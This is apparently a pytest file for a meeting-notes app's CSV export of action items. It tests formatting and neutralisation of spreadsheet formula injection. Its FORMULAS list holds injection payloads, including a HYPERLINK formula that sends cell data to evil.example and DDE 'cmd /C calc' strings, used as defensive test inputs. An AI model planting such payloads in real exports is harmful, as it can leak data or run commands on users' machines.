"""Action items as CSV: as a spreadsheet reads them, and never as a formula."""

from dataclasses import replace
from math import inf, nan

import pytest

from talktotext.documents import Document, get_writer, render
from talktotext.documents.tasks_csv import HEADER, inert
from talktotext.schema import ActionItem, Evidence, Notes

from .formats import rows
from .samples import EMPTY, MEETING, WHEN

FORMULAS = [
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    '"=1+1',
    "'=1+1",
    '=1+1";=1+1',
]


def one(text: str) -> Document:
    said = (Evidence(segments=(0,), start=1.0, end=2.0, quote=text),)
    item = ActionItem(text=text, owner=text, due=text, evidence=said)
    return Document(Notes(title=text, action_items=(item,)), (), WHEN, 9.0)


def test_a_row_an_item():
    linked = replace(MEETING, note_id="n1", base_url="https://notes.example.com")
    header, *items = rows(linked)
    assert tuple(header) == HEADER
    assert items == [
        [
            "Write the announcement and send it round.",
            "Ben",
            "by Friday",
            "2026-11-20",
            "high",
            "no",
            "00:00:47",
            "47.000",
            "I will write the announcement by Friday and send it round.",
            "https://notes.example.com/notes/n1?t=47",
        ],
        [
            "Update the help pages.",
            "Chloé",
            "before the launch",
            "",
            "",
            "no",
            "00:00:53",
            "53.300",
            "And I take the help pages; they are due before the launch.",
            "https://notes.example.com/notes/n1?t=53",
        ],
        [
            "Ask legal about the new terms.",
            "Anna",
            "",
            "",
            "",
            "yes",
            "00:01:00",
            "60.200",
            "I will ask legal about the new terms this week.",
            "https://notes.example.com/notes/n1?t=60",
        ],
    ]


def test_it_is_rfc_4180_with_the_mark_that_excel_needs():
    data = render("csv", MEETING)
    assert data.startswith(b'\xef\xbb\xbf"Task","Owner",')
    assert data.endswith(b'"\r\n')
    assert data.count(b"\n") == data.count(b"\r\n") == 4


def test_nothing_to_do_is_a_header():
    assert rows(EMPTY) == [list(HEADER)]


def test_what_was_said_at_no_time_has_none():
    notes = Notes(title="x", action_items=(ActionItem(text="Call", edited=True),))
    (_, item) = rows(Document(notes, (), WHEN, 9.0))
    assert item == ["Call", "", "", "", "", "no", "", "", "", ""]


@pytest.mark.parametrize("start", [nan, inf, -inf])
def test_what_is_no_time_is_none(start):
    said = (Evidence(segments=(0,), start=start, end=start, quote="x"),)
    notes = Notes(title="x", action_items=(ActionItem(text="x", evidence=said),))
    linked = Document(notes, (), WHEN, 9.0, note_id="n", base_url="https://notes.example")
    assert rows(linked)[1][6:] == ["", "", "x", ""]


def test_hours_count_on():
    said = (Evidence(segments=(0,), start=363_725.25, end=363_726.0, quote="x"),)
    notes = Notes(title="x", action_items=(ActionItem(text="x", evidence=said),))
    assert rows(Document(notes, (), WHEN, 9.0))[1][6:8] == ["101:02:05", "363725.250"]


def is_formula(cell: str) -> bool:
    return cell.lstrip('" \u200b\u3000').startswith(tuple("=+-@＝＋－＠\t\r\n"))


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_is_a_formula(text):
    assert not any(map(is_formula, rows(one(text))[1]))


@pytest.mark.parametrize("text", FORMULAS)
def test_nor_where_a_semicolon_cuts_cells(text):
    """As Excel does in Germany, which then knows no quotes but those at the start of a cell."""
    line = render("csv", one(f"do this;{text}")).decode("utf-8-sig").split("\r\n")[1]
    assert not any(map(is_formula, line.split(";")))


@pytest.mark.parametrize("text", ["a, b", 'say "yes"', "a - b", "3 = 3", "don't; well", "x@y.z"])
def test_other_cells_stay_as_they_are(text):
    assert rows(one(text))[1][0] == text
    assert inert(text) == text


def test_a_cell_is_one_line():
    (_, item) = rows(one('a\r\n"=1"\n\nb\u2028c'))
    assert item[0] == 'a "=1" b c'


def test_it_names_itself():
    writer = get_writer("csv")
    assert (writer.extension, writer.media_type) == ("csv", "text/csv")
